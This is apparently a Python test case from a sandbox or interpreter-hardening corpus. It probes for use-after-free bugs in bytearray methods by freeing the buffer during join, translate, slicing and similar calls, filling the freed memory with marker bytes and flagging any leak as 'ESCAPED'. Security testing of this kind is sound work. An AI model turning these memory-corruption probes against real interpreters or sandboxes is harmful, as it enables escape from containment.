# id: bytearray-join-uaf
# class: bypass-limit
# expect: contained
# technique: the separator of bytearray.join() is freed by an item; tables and tuples of buffers that clear the bytearray
# source: own
# verified: no
keep = []
class E:
    def __init__(s, b): s.b = b
    def __buffer__(s, fl):
        try: ba.clear()
        except BufferError as e: print('exported')
        keep.append([bytes([66]) * 2990 for _ in range(5)])
        return memoryview(s.b)
def show(what, f):
    global ba
    ba = bytearray(b'A' * 3000)
    try: s = repr(f())
    except Exception as e: s = type(e).__name__ + str(e)
    print(what, s[:60], len(s))
    if 'xdb' in s or 'BBBB' in s: print('ESCAPED:bytearray-join-uaf freed memory', what)
show('join', lambda: ba.join([E(b'x'), E(b'y'), E(b'z')]))
show('join bytes', lambda: ba.join([b'x', E(b'y'), b'z']))
show('translate', lambda: ba.translate(E(bytes(range(256)))))
show('translate delete', lambda: ba.translate(bytes(range(256)), E(b'q')))
show('startswith', lambda: ba.startswith((E(b'A'), E(b'AAAA'))))
show('bytes.join', lambda: b'-'.join([ba, E(b'x'), ba]))
show('join self', lambda: b'-'.join([ba] * 3 + [E(b'x')] + [ba] * 3))
show('add', lambda: E(b'x').__buffer__(0) + ba if False else ba + E(b'q'))
show('eq', lambda: ba == E(b'A' * 3000)); show('lt', lambda: ba < E(b'A' * 3000))
show('iadd', lambda: ba.__iadd__(E(b'q'))); show('extend', lambda: ba.extend([E(b'q')]))
show('slice', lambda: ba.__setitem__(slice(0, 2000), E(b'qq'))); show('slice step', lambda: ba.__setitem__(slice(0, 4, 2), E(b'qq')))
show('slice gen', lambda: ba.__setitem__(slice(0, 2000), (x for x in [1, ba.clear(), 2] if x))); 
show('init', lambda: ba.__init__(E(b'qq'))); show('int', lambda: int(ba[:3] + b'1', E(b'1')))
